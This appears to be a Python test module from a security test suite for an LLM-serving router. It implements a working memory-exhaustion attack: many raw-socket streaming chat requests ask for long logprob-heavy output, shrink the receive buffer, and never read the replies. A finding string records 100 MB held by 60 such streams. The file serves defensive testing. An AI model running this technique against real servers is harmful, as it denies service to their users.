"""Streams with logprobs that the client never reads. The router must not keep the memory of their
chunks once the client has left."""

import asyncio
import json
import socket

from tests.attacks.target import REQUESTS_PER_MINUTE, AttackTarget
from tests.attacks.uploads import CHAT

FINDING = "43.18: 60 unread streams with logprobs keep 100 MB of a router for good"

RECEIVE_BYTES = 4096
BODY = {
    "messages": [{"role": "user", "content": "Tell me a story."}],
    "max_tokens": 4000,
    "ignore_eos": True,
    "logprobs": True,
    "top_logprobs": 20,
    "stream": True,
}


async def attack(target: AttackTarget) -> None:
    """Open as many streams as the attacker's limit allows at once, and read none of them."""
    body = json.dumps(BODY).encode()
    head = (
        f"POST {CHAT} HTTP/1.1\r\nHost: {target.url.partition('//')[2]}\r\n"
        f"Authorization: Bearer {target.attacker_key}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    unread = []
    try:
        for _ in range(REQUESTS_PER_MINUTE):
            if await target.wait_for_rate_limit():
                unread.append(await _open(target.address, head + body))
        await target.sleep(target.seconds_left)
    finally:
        for client in unread:
            client.close()
    target.outcomes["unread streams"] += len(unread)


async def _open(address: tuple[str, int], request: bytes) -> socket.socket:
    """Send a request over a connection of which nothing will be read."""
    client = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BYTES)
    client.setblocking(False)
    loop = asyncio.get_running_loop()
    await loop.sock_connect(client, address)
    await loop.sock_sendall(client, request)
    return client
